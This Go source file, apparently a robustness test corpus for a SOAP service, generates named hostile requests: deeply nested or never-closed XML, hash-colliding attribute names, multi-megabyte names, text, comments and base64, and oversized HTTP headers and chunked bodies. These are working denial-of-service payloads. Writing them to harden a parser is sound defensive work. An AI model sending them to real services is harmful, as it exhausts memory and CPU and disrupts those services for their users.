package hostile

import (
	"bytes"
	"fmt"
	"strings"
)

const (
	begin11   = `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:b="urn:biosv:bios:v1">`
	begin12   = `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:b="urn:biosv:bios:v1">`
	end       = `</s:Envelope>`
	operation = `<s:Body><b:GetAttributes/></s:Body>`

	megabyte = 1_000_000
)

// made are the attacks that are made, by name. Each is made anew whenever it is asked for: together they are large.
var made = map[string]request{
	"nesting-endless":                      body(begin11, `<s:Header>`, times(200_000, `<a xmlns="urn:x">`)),
	"nesting-never-closed":                 body(begin12, `<s:Body>`, times(200_000, `<a>`)),
	"children-10001":                       body(begin11, `<s:Body><b:SetAttributes>`, times(10_001, `<b:Attribute><b:Name>A</b:Name></b:Attribute>`), `</b:SetAttributes></s:Body>`, end),
	"children-100000":                      body(begin12, `<s:Body><b:SetAttributes>`, times(100_000, `<b:Attribute><b:Name/></b:Attribute>`), `</b:SetAttributes></s:Body>`, end),
	"children-of-a-header":                 body(begin11, `<s:Header><b:h>`, times(20_000, `<b:a/>`), `</b:h></s:Header>`, operation, end),
	"headers-100000":                       body(begin11, `<s:Header>`, times(100_000, `<b:h/>`), `</s:Header>`, operation, end),
	"attributes-100000":                    body(begin11, `<s:Body><b:GetAttributes`, counted(100_000, ` a%d=""`), `/></s:Body>`, end),
	"attributes-that-collide":              body(begin12, `<s:Header><b:h>`, times(200, `<b:a`+collisions()+`/>`), `</b:h></s:Header><s:Body><x/></s:Body>`, end),
	"attribute-of-10-megabytes":            body(begin11, `<s:Body><b:GetAttributes a="`, times(10*megabyte, "a"), `"/></s:Body>`, end),
	"name-of-1-megabyte":                   body(begin11, `<s:Body><b:`, times(megabyte, "a"), `/></s:Body>`, end),
	"name-of-10-megabytes":                 body(begin12, `<s:Body><b:`, times(5*megabyte, "é"), `/></s:Body>`, end),
	"attribute-name-of-1-megabyte":         body(begin11, `<s:Body><b:GetAttributes `, times(megabyte, "a"), `=""/></s:Body>`, end),
	"prefix-of-1-megabyte":                 body(begin12, `<s:Body><`, times(megabyte, "a"), `:GetAttributes/></s:Body>`, end),
	"namespaces-1000":                      body(begin11, `<s:Body><b:GetAttributes`, counted(1000, ` xmlns:n%d="urn:x"`), `/></s:Body>`, end),
	"namespaces-searched":                  body(begin12, `<s:Header><b:h`, prefixes(62), `>`, times(20, `<s:g>`+strings.Repeat(`<s:a/>`, 7500)+`</s:g>`), `</b:h></s:Header><s:Body/>`, end),
	"namespace-of-1-megabyte":              body(`<s:Envelope xmlns:s="`, times(megabyte, "a"), `">`, operation, end),
	"namespace-that-is-quoted":             body(`<s:Envelope xmlns:s='`, times(8000, `"`), `'>`, operation, end),
	"text-of-10-megabytes":                 body(begin11, `<s:Body><b:GetAttributes><b:Name>`, times(10*megabyte, "a"), `</b:Name></b:GetAttributes></s:Body>`, end),
	"text-in-a-header":                     body(begin12, `<s:Header><b:h>`, times(10*megabyte, "a"), `</b:h></s:Header>`, operation, end),
	"text-of-references":                   body(begin11, `<s:Body><b:GetAttributes><b:Name>`, times(2*megabyte, "&#65;"), `</b:Name></b:GetAttributes></s:Body>`, end),
	"text-of-cdata":                        body(begin12, `<s:Body><b:GetAttributes><b:Name>`, times(megabyte/2, "<![CDATA[a]]>"), `</b:Name></b:GetAttributes></s:Body>`, end),
	"white-space":                          body(begin11, `<s:Body>`, times(10*megabyte, " "), `</s:Body>`, end),
	"white-space-in-a-tag":                 body(begin12, `<s:Body`, times(10*megabyte, " ")),
	"comment-of-10-megabytes":              body(begin11, `<!--`, times(10*megabyte, "a"), `-->`, operation, end),
	"comments-1000000":                     body(begin12, `<s:Body>`, times(megabyte, "<!---->"), `<b:GetAttributes/></s:Body>`, end),
	"comments-in-a-value":                  body(begin11, `<s:Body><b:GetAttributes><b:Name>`, times(megabyte, "a<!---->"), `</b:Name></b:GetAttributes></s:Body>`, end),
	"comment-endless":                      body(begin11, `<!--`, times(10*megabyte, "a")),
	"cdata-endless":                        body(begin11, `<s:Body><b:GetAttributes><b:Name><![CDATA[`, times(10*megabyte, "]")),
	"declaration-of-60-kilobytes":          body(`<?xml version="`, times(30_000, "\u0080"), `"?>`, begin11, operation, end),
	"lines-1000000":                        body(begin11, `<s:Body>`, times(megabyte, "\n"), `<1/></s:Body>`, end),
	"number-of-60-kilobytes":               body(begin11, `<s:Body><b:GetEventLog><b:After>`, times(60_000, "9"), `</b:After></b:GetEventLog></s:Body>`, end),
	"base64-of-10-megabytes":               archive(begin11, times(megabyte*10/4, "AAAA"), "AAA*"),
	"base64-after-padding-of-10-megabytes": archive(begin12, times(megabyte*10/4, "AAAA"), "AA==", "AAAA"),
	"base64-of-references":                 archive(begin11, times(2*megabyte, "&#65;")),
	"base64-of-cdata":                      archive(begin12, times(megabyte*10/13, "<![CDATA[A]]>")),
	"base64-of-comments":                   archive(begin11, times(megabyte*10/11, "AAAA<!---->")),
	"base64-without-end":                   body(begin11, `<s:Body><b:RestoreState><b:Archive>`, times(megabyte*10/4, "AAAA")),

	"headers-of-1-megabyte.http":   body("POST /bios HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/xml\r\n", counted(50_000, "X-%d: 0123456789\r\n"), "Content-Length: 0\r\n\r\n"),
	"chunks-of-100-kilobytes.http": body("POST /bios HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/xml\r\nTransfer-Encoding: chunked\r\n\r\n", times(100, "3e8\r\n"+strings.Repeat("garbage ", 125)+"\r\n"), "0\r\n\r\n"),
}

// request makes a request, or a part of one.
type request func(*bytes.Buffer)

// body is a request of parts: strings, and requests.
func body(parts ...any) request {
	return func(b *bytes.Buffer) {
		for _, p := range parts {
			if part, ok := p.(request); ok {
				part(b)
			} else {
				fmt.Fprint(b, p)
			}
		}
	}
}

// archive is a request to restore a state.
func archive(begin string, parts ...any) request {
	return body(begin, `<s:Body><b:RestoreState><b:Archive>`, body(parts...), `</b:Archive></b:RestoreState></s:Body>`, end)
}

// times is a text so many times.
func times(n int, text string) request {
	return func(b *bytes.Buffer) {
		b.Write(bytes.Repeat([]byte(text), n))
	}
}

// counted is a text so many times, each with its number in it.
func counted(n int, format string) request {
	return func(b *bytes.Buffer) {
		for i := range n {
			fmt.Fprintf(b, format, i)
		}
	}
}

// prefixes declares so many prefixes of one character, none of them s or b.
func prefixes(n int) request {
	return func(b *bytes.Buffer) {
		for c := 'c'; n > 0; c++ {
			if c != 's' && (c < '{' || c >= 'À') && c != '×' && c != '÷' {
				fmt.Fprintf(b, ` xmlns:%c="urn:x"`, c)
				n--
			}
		}
	}
}

// collisions is 100 attributes with names that have one hash where that is made as Java, or many a textbook, makes it:
// h = 31 h + c. Aa and BB have the same, and so has whatever is made of them.
func collisions() string {
	var b strings.Builder
	for i := range 100 {
		b.WriteByte(' ')
		for bit := range 7 {
			b.WriteString([2]string{"Aa", "BB"}[i>>bit&1])
		}
		b.WriteString(`=""`)
	}
	return b.String()
}
